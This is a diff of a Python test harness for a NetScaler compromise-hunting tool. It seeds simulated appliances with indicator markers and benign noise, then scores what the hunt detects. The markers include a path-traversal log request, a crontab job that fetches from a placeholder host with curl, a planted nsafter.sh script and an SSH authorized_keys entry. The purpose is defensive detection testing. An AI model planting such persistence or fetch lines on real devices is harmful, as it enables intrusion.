@@ -13,15 +13,11 @@ from __future__ import annotations
 
 import gzip
 import sys
-import tempfile
-import time
+from collections.abc import Sequence
 from datetime import UTC, datetime
 from pathlib import Path
 
-try:
-    import ansible_collections.tourniquet.netscaler  # noqa: F401
-except ImportError:
-    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / ".collections"))
+import tests.collection  # isort: skip  # noqa: F401
 
 from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.connection import Connection
 from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.objects.steps import Step
@@ -34,28 +30,13 @@ from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.record
     CopyState,
     Outcome,
 )
-from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.finding import Examination
 from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.own_changes import own_changes
 from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.hunt import Hunt
 
-from simulator import Simulator
 from simulator.server.python_api import ApplianceHandle
+from tests import marker_fleet
 from tests.engine.stage import CATALOGUE, Stage
-from tests.marker_fleet import (
-    ATTEMPT,
-    COMPROMISE,
-    REVIEW,
-    SIZE,
-    UNSEEABLE,
-    Marker,
-    Outcomes,
-    Planned,
-    Plant,
-    Population,
-    data,
-    file,
-    report,
-)
+from tests.marker_fleet import ATTEMPT, COMPROMISE, MESSAGES, REVIEW, UNSEEABLE, Marker, Plant, data, file, line
 
 ENTRIES = load_catalogue(CATALOGUE.parent)
 PACKED = b'127.0.0.1 - - [18/Jan/2020:00:15:29 +0000] "GET /vpn/../vpns/portal/12345678.xml HTTP/1.1" 200 71875 "-" "x"'
@@ -82,10 +63,6 @@ BUILDS = (
 )
 LEVELS = (COMPROMISE, ATTEMPT, REVIEW)
 BASH, ACCESS, NS_LOG = "/var/log/bash.log", "/var/log/httpaccess.log", "/var/log/ns.log"
-
-
-def line(path: str, text: str) -> Plant:
-    return lambda box: box.log(path, text)
 
 
 def shell(command: str, user: str = "root", tty: str = "(null)") -> Plant:
@@ -140,7 +117,7 @@ MARKERS = (
     Marker("alias", REVIEW, "/nsconfig/httpd.conf", file("/nsconfig/httpd.conf", "AliasMatch ^/x /var/x\n")),
     Marker("nsafter.sh", REVIEW, "/nsconfig/nsafter.sh", file("/nsconfig/nsafter.sh", "true\n")),
     Marker("armed line", ATTEMPT, NS_LOG, line(NS_LOG, "Sep 20 01:02:03 <local0.info> 10.1.1.1 nsaaad[1]: call to authenticate user :pitboss NSPPE; x")),
-    Marker("integrity message", REVIEW, "/var/log/messages", line("/var/log/messages", VERIEXEC)),
+    Marker("integrity message", REVIEW, "/var/log/messages", line(MESSAGES, VERIEXEC)),
     Marker("job that fetches", REVIEW, "/nsconfig/crontab", file("/nsconfig/crontab", "0 0 1 1 * root cd /; curl http://192.0.2.66/x\n")),
     # CVE-2025-5777
     Marker("memory in a log", COMPROMISE, NS_LOG, data(f"{NS_LOG}.7", MEMORY)),
@@ -153,19 +130,8 @@ MARKERS = (
 )  # fmt: skip
 
 
-def theme_edit(box: ApplianceHandle) -> None:
-    """Thirty files of one burst (README of netscaler-ctx697096-checker)."""
-    then = "2026-11-20T03:00:00Z"
-    for number in range(30):
-        text = "function show() { return base64 + String.fromCharCode(65); }\n"
-        box.write_file(f"/var/netscaler/logon/themes/own/file{number}.js", text, mtime=then)
-        box.write_file(f"/var/netscaler/logon/LogonPoint/custom/strings.{number}.js", text, mtime=then)
-
-
-def upgrade(box: ApplianceHandle) -> None:
-    for path in ("/var/nsinstall/installns_state", "/var/core/bounds", "/var/core/minfree", "/var/tmp/install.log"):
-        box.write_file(path, "1\n")
-    box.log("/var/log/messages", "Jan 19 23:00:06 <kern.notice> ns kernel: pitboss: new process nsppe")
+def installation(box: ApplianceHandle) -> None:
+    marker_fleet.upgrade(box)
     box.log(
         "/var/log/notice.log",
         'Jan 19 23:00:06 <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command="./installns"',
@@ -182,9 +148,7 @@ def administrators(box: ApplianceHandle) -> None:
     ):
         shell(command, "root", "/dev/pts/0")(box)
     box.log(NS_LOG, COMMAND)
-    box.write_file("/var/vpn/bookmark/bm_prefix_dXNlcg==", "<bookmarks></bookmarks>\n")
-    box.write_file("/nsconfig/rc.netscaler", "nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0\n")
-    box.write_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA admin\n")
+    marker_fleet.files_of_administrators(box)
 
 
 def scanners(box: ApplianceHandle) -> None:
@@ -200,8 +164,25 @@ def syslog_quiet(box: ApplianceHandle) -> None:
     box.write_file(NS_LOG, "Jan 19 23:00:06 ns newsyslog[1]: logfile turned over due to size>100K\n")
 
 
-NOISE: tuple[Plant, ...] = (theme_edit, upgrade, administrators, scanners, syslog_quiet)
-POPULATION = Population(MARKERS, BUILDS, NOISE)
+NOISE: tuple[Plant, ...] = (
+    marker_fleet.theme_edit(
+        "function show() { return base64 + String.fromCharCode(65); }\n",
+        "/var/netscaler/logon/themes/own/file{}.js",
+        "/var/netscaler/logon/LogonPoint/custom/strings.{}.js",
+    ),
+    installation,
+    administrators,
+    scanners,
+    syslog_quiet,
+)
+
+
+def right(_one: marker_fleet.Planned, marker: Marker) -> Sequence[str]:
+    """A marker may be found at a more urgent level than its own."""
+    return LEVELS[: LEVELS.index(marker.level) + 1] if marker.level in LEVELS else (UNSEEABLE,)
+
+
+POPULATION = marker_fleet.Population(MARKERS, BUILDS, NOISE, LEVELS, lambda found: found.where + found.evidence, right)
 RUN = "a1b2c3d4e5"
 
 
@@ -228,42 +209,22 @@ class Ours:
         )
 
 
-def counted(outcomes: Outcomes, one: Planned, examined: Examination) -> None:
-    """Count what a hunt found: a marker may be found at a more urgent level than its own."""
-    texts = {level: [f.where + f.evidence for f in examined.findings if f.level == level] for level in LEVELS}
-    outcomes.add(
-        one,
-        examined,
-        texts,
-        lambda marker: LEVELS[: LEVELS.index(marker.level) + 1] if marker.level in LEVELS else (UNSEEABLE,),
-    )
-
-
-def play(stride: int = 1, size: int = SIZE) -> Outcomes:
+def play(stride: int = 1, size: int = marker_fleet.SIZE) -> marker_fleet.Outcomes:
     """Hunt on one of so many of the generated appliances."""
-    outcomes = Outcomes(LEVELS)
-    with tempfile.TemporaryDirectory() as name, Simulator(POPULATION.fleet) as simulator:
-        directory = Path(name)
-        directory.chmod(0o700)
+    with POPULATION.started() as stages:
+        directory = next(iter(stages.values())).records
         ours = Ours(directory)
         own = own_changes(directory, "box", RecordTrust(), ["nsroot"], ["192.0.2.1"])
-        for one in [*POPULATION.planned(size)][::stride]:
-            simulator.reset()
-            host = POPULATION.host(one)
-            ours.leave(simulator.appliance(host))
-            one.plant(simulator.appliance(host))
+
+        def look(stage: Stage) -> marker_fleet.Looked:
             hunt = Hunt("box", ENTRIES, own)
-            began = time.perf_counter()
-            with Connection(Stage(simulator, directory, host).appliance) as connection:
+            with Connection(stage.appliance) as connection:
                 examined = hunt.look(connection)
-            outcomes.seconds.append(time.perf_counter() - began)
-            outcomes.requests.append(len(connection.exchanges))
-            outcomes.bytes.append(dict(examined.looked_at)["bytes"])
-            if hunt.own != {"files": 2, "requests": 1}:
-                outcomes.wrong.append(f"{one.number}: what is ours was not recognised: {hunt.own}")
-            counted(outcomes, one, examined)
-    return outcomes
+            wrong = "" if hunt.own == {"files": 2, "requests": 1} else f"what is ours was not recognised: {hunt.own}"
+            return marker_fleet.Looked(examined, len(connection.exchanges), dict(examined.looked_at)["bytes"], wrong)
+
+        return POPULATION.looked_at(stages, look, stride, size, before=ours.leave)
 
 
 if __name__ == "__main__":
-    sys.exit(report(play(), "hunt"))
+    sys.exit(marker_fleet.report(play(), "hunt"))
